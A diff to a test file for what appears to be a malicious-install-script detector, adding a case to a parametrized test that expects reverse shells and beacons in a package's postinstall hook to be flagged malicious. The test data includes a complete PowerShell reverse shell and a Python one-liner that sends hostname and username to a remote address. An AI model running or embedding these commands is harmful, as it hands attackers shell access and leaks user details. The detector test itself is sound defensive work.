@@ -159,6 +159,9 @@ def test_no_scripts_no_findings():
     "start \"\" /b powershell -nop -w hidden -c \"$c=New-Object System.Net.Sockets.TCPClient('192.0.2.44',443);$s=$c.GetStream();"
     "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object System.Text.ASCIIEncoding).GetString($b,0,$i);"
     "$o=(iex $d 2>&1|Out-String);$sb=([text.encoding]::ASCII).GetBytes($o);$s.Write($sb,0,$sb.Length)};$c.Close()\"",
+    # blind set 35: the dependency-confusion beacon in inline Python, no JavaScript at all
+    "python3 -c \"import urllib.request as r,urllib.parse as p,socket,getpass;"
+    "d=p.urlencode({'h':socket.gethostname(),'u':getpass.getuser()});r.urlopen('http://198.51.100.23/c?'+d)\" || true",
 ])
 def test_reverse_shells_and_beacons_are_malicious_alone(command):
     assert decide(findings(artifact({"postinstall": command}))).level is Level.MALICIOUS
